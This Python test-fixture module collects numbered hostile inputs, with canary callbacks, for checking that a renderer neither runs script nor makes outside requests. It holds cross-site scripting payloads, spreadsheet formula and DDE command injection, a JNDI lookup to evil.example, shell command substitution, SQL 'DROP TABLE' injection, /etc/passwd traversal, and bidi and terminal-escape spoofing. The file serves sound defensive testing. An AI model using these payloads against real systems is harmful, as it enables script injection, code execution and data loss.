"""Hostile text by kind, each with a mark that tells when a browser ran it or a request left.

``mark(n)`` is a function that the test's browser gives to every page; ``CANARY`` stands for the address
of a server that must hear nothing.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping

CANARY = "http://canary.invalid/"
_HIT = "mark({n});new Image().src='CANARY{n}'"

# Run by a browser as soon as they stand in a page as markup.
SCRIPTS = (
    "<script>HIT</script>",
    "</script><script>HIT</script>",
    "</style></title></textarea><script>HIT</script>",
    "--></noscript><script>HIT</script>",
    "<ScRiPt >HIT</ScRiPt >",
    "<script\x0c>HIT</script>",
    "<script src=CANARY{n}.js></script>",
    "<img src=x onerror=\"HIT\">",
    "<img src=CANARY{n}.png>",
    "<svg onload=\"HIT\">",
    "<svg><script>HIT</script></svg>",
    "<body onload=\"HIT\">",
    "<details open ontoggle=\"HIT\"><summary>x</summary>y</details>",
    "<video><source onerror=\"HIT\"></video>",
    "<iframe srcdoc='<script>parent.mark({n})</script>'></iframe>",
    "<iframe src=\"javascript:parent.mark({n})\"></iframe>",
    "<iframe src=CANARY{n}></iframe>",
    "<object data=CANARY{n}></object>",
    "<embed src=CANARY{n}>",
    "<link rel=stylesheet href=CANARY{n}.css>",
    "<style>@import 'CANARY{n}.css';</style>",
    "<p style=\"background:url(CANARY{n}.gif)\">x</p>",
    "<input autofocus onfocus=\"HIT\">",
    "<marquee onstart=\"HIT\">x</marquee>",
    "<meta http-equiv=refresh content=\"0;url=CANARY{n}\">",
    "<form action=CANARY{n}><button>x</button></form><script>document.forms[0].submit()</script>",
    "<template><p></template><img src=x onerror=\"HIT\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror='HIT'&gt;\">",
)  # fmt: skip
# Break out of an attribute, or wait for a reader's hand.
ATTRIBUTES = (
    "\" onmouseover=\"HIT\" x=\"",
    "' onmouseover='HIT' x='",
    "\"><svg onload=\"HIT\">",
    "'><img src=x onerror='HIT'>",
    "` onerror=`HIT",
    "x onclick=HIT ",
    "<a href=\"javascript:HIT\">click</a>",
    "<button onclick=\"HIT\">click</button>",
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&#x3c;img src=x onerror=HIT&#x3e;",
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e",
    "\\u003cimg src=x onerror=HIT\\u003e",
)  # fmt: skip
LINKS = (
    "javascript:HIT",
    "JaVa\tScRiPt:HIT",
    "\x01javascript:HIT",
    "javascript://a.example/%0aHIT",
    "vbscript:HIT",
    "data:text/html,<script>HIT</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>",
    "https://a.example/\"onmouseover=\"HIT",
    "https://a.example/'onmouseover='HIT",
    "https://bank.example@evil.example/{n}",
    "//evil.example/{n}",
    "file:///etc/passwd",
    "blob:https://a.example/{n}",
)  # fmt: skip
FORMULAS = (
    "=HYPERLINK(\"CANARY{n}\",\"read\")",
    "+SUM(1;2)",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "=IMPORTXML(\"CANARY{n}\",\"//a\")",
)  # fmt: skip
MATHS = (
    "$\\frac{{a$ costs $5 and $10",
    "$\\href{{javascript:HIT}}{{x}}$",
    "$$\\undefined{{$$",
    "\\(x^2\\) \\[y\\]",
    "costs \\$5, not $6 or $^$",
)  # fmt: skip
ESCAPES = (
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;CANARY{n}\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred",
    "a\rb\x08\x00c",
    "[/red][link=CANARY{n}]click[/link]",
)  # fmt: skip
BIDI = (
    "abc\u202etxt.exe",
    "\u2066\u2067isolate",
    "\u200f\u061cmark",
    "zero\u200bwidth\ufeff",
    "tag\U000e0068\U000e0069",
)  # fmt: skip
TEMPLATES = (
    "{{{{7*7}}}} {{%raw%}} ${{jndi:ldap://evil.example/{n}}}",
    "{{run_date.__class__}} %s %(name)s {{0}}",
    "<%= 7*7 %> #{{7*7}} `touch {n}` $(touch {n})",
    "'; DROP TABLE records; --",
    "../../../etc/passwd",
)  # fmt: skip
KINDS: Mapping[str, tuple[str, ...]] = {
    "script": SCRIPTS, "attribute": ATTRIBUTES, "link": LINKS, "formula": FORMULAS, "math": MATHS,
    "escape": ESCAPES, "bidi": BIDI, "template": TEMPLATES,
}  # fmt: skip
MEGABYTE = "Nordlys " + "megabyte " * 120_000


def vectors(*kinds: str, canary: str = CANARY) -> tuple[str, ...]:
    """The texts of some kinds, or of all; each holds a mark with its number over all kinds."""
    return tuple(text for kind, text in _numbered(canary) if not kinds or kind in kinds)


def _numbered(canary: str) -> Iterator[tuple[str, str]]:
    number = 0
    for kind, texts in KINDS.items():
        for text in texts:
            hit = _HIT.replace("{n}", str(number))
            filled = text.replace("{n}", str(number)).replace("HIT", hit).replace("CANARY", canary)
            yield kind, filled.replace("{{", "{").replace("}}", "}")
            number += 1
